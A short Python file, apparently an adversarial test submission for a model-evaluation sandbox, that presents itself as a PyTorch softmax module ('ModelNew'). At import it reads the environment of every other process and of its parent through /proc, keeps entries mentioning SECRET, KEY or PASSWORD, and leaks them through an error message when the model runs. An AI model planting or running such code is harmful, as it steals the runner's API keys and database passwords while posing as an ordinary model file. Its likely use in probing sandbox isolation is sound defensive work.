"""Hostile: reads every other process's environment (the runner's API keys, database
password) through /proc, and the runner's own through its parent's pid."""
import os

import torch
import torch.nn as nn

_found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(os.getppid())]:
    if pid == str(os.getpid()):
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            text = f.read().decode(errors="replace")
    except OSError:
        continue
    if "SECRET" in text or "KEY" in text or "PASSWORD" in text:
        _found.append(text)


class ModelNew(nn.Module):
    def forward(self, x):
        if _found:
            raise RuntimeError(f"read another process's environment: {_found[0][:2000]}")
        return torch.softmax(x, dim=-1)
